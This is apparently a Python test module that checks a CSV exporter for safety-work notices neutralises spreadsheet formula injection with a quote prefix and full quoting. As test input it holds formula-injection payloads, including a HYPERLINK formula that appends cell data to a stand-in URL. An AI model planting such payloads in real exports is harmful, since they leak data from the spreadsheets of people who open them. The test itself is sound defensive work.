"""CSV formula injection: no cell of an export opens in a spreadsheet as a formula.

OWASP's "CSV Injection": a cell that begins with = + - @, a tab or a carriage return is
prefixed with a single quote, and every cell is quoted. Stripping that one quote gives the
original text back; the JSON exports keep the original text.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path
from typing import Any

from hypothesis import given
from hypothesis import strategies as st

from build_tools.convert import load_archive
from build_tools.render import exports
from build_tools.render.csv_cells import FORMULA_STARTS, original_text, spreadsheet_text
from build_tools.render.requirement_rows import csv_lines
from build_tools.write import Stream
from tests.helpers import SOURCE_DIR

TRIGGERS = "=+-@\t\r＝＋－＠"
HOSTILE = st.text(
    alphabet=st.sampled_from([*TRIGGERS, " ", "\u3000", "\n", '"', "'", ",", ";", "a", "安"])
) | st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"]))
VALUES = st.one_of(st.none(), st.integers(), HOSTILE, st.lists(HOSTILE, max_size=3))
ROWS = st.lists(
    st.fixed_dictionaries({"a": VALUES, "b": VALUES, "c": VALUES}), min_size=1, max_size=20
)
HYPERLINK = '=HYPERLINK("http://x"&A1,"点击")'


def looks_like_formula(cell: str) -> bool:
    """A cell a spreadsheet could read as a formula: its first character, or the first
    after leading spaces, line feeds and quotes (which some importers drop), starts one."""
    stripped = cell.lstrip(" \u3000\u00a0\n\"'")
    return cell[:1] in FORMULA_STARTS or stripped[:1] in FORMULA_STARTS


def cell_text(value: Any) -> str:
    """What the writer puts in a cell for ``value``, before neutralising."""
    if isinstance(value, list):
        return "；".join(value)
    return "" if value is None else str(value)


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@given(ROWS)
def test_no_cell_the_writer_emits_starts_a_formula(rows: list[dict[str, Any]]) -> None:
    text = csv_lines(rows, ["a", "b", "c"], header=True)
    table = parsed(text)
    assert table[0] == ["a", "b", "c"] and len(table) == len(rows) + 1
    for line, row in zip(table[1:], rows, strict=True):
        for cell, value in zip(line, (row[field] for field in "abc"), strict=True):
            assert not cell.startswith(tuple(FORMULA_STARTS)), cell
            if cell.startswith("'"):
                assert not looks_like_formula(cell[1:]) or cell[1:] == cell_text(value)
            assert original_text(cell) == cell_text(value)
            assert cell in (cell_text(value), "'" + cell_text(value))


@given(HOSTILE)
def test_the_one_added_quote_is_the_only_change_and_it_comes_off(text: str) -> None:
    safe = spreadsheet_text(text)
    assert safe == text or safe == "'" + text
    assert (safe != text) == looks_like_formula(text)
    assert not looks_like_formula(safe) or safe.startswith("'")
    assert original_text(safe) == text


def test_every_cell_is_quoted() -> None:
    text = csv_lines([{"a": '=1+2";=1+2', "b": 3}], ["a", "b"])
    assert text == '"\'=1+2"";=1+2","3"\r\n'


def test_hostile_notice_and_sidecar_reach_the_csv_exports_as_text(tmp_path: Path) -> None:
    sources = tmp_path / "source_texts"
    sources.mkdir()
    for name in ("glossary.yml", "sectors.yml", "departments.yml"):
        shutil.copy(SOURCE_DIR / name, sources / name)
    (sources / "hostile.txt").write_text(
        "某某市安全生产委员会\n\n2031年安全生产工作要点\n\n一、重点工作\n"
        "1.=SUM(A1:A9)加强安全生产责任落实。\n"
        "2.-2+3开展隐患排查治理。\n"
        "3.@SUM(1)推进监管执法。\n"
        "4.+1+1强化应急救援能力。\n"
        "5.加强安全生产责任落实。（@某局牵头，-某委、+某办负责落实）\n"
        "6.按照《=HYPERLINK(1)》开展检查。\n",
        encoding="utf-8",
    )
    (sources / "hostile.yml").write_text(
        f"region: '{HYPERLINK}'\nyear: 2031\nlevel: prefectural\n", encoding="utf-8"
    )
    report = load_archive(sources)
    assert report.archive is not None and not report.failures, report.failures
    made = dict(exports.render_exports(report.archive, sources))
    assert json.loads(str(made["data/notices.json"]))[0]["region"] == HYPERLINK
    files = {
        path: "".join(content.chunks)
        for path, content in made.items()
        if path.endswith(".csv") and isinstance(content, Stream)
    }
    assert set(files) == {"data/notices.csv", "data/requirements.csv", "data/citations.csv"}
    for path, text in files.items():
        table = parsed(text)
        for line in table:
            for cell in line:
                assert not looks_like_formula(cell) or cell.startswith("'"), (path, cell)
                assert not cell.startswith(tuple(FORMULA_STARTS)), (path, cell)
    notices = list(csv.DictReader(io.StringIO(files["data/notices.csv"][1:], newline="")))
    assert notices[0]["region"] == "'" + HYPERLINK
    assert original_text(notices[0]["region"]) == HYPERLINK
    rows = list(csv.DictReader(io.StringIO(files["data/requirements.csv"][1:], newline="")))
    headings = [original_text(row["heading"]) for row in rows]
    assert {"=", "-", "@", "+"} <= {heading[:1] for heading in headings}, headings
    assert [row["heading"][:2] for row in rows[1:5]] == ["'=", "'-", "'@", "'+"]
    assert (rows[5]["lead_departments"], rows[5]["supporting_departments"]) == (
        "'@某局",
        "'-某委；+某办",
    )
    assert all(row["region"] == "'" + HYPERLINK for row in rows)
    cited = list(csv.DictReader(io.StringIO(files["data/citations.csv"][1:], newline="")))
    assert [(row["title"], row["relations"]) for row in cited] == [("'=HYPERLINK(1)", "按照")]
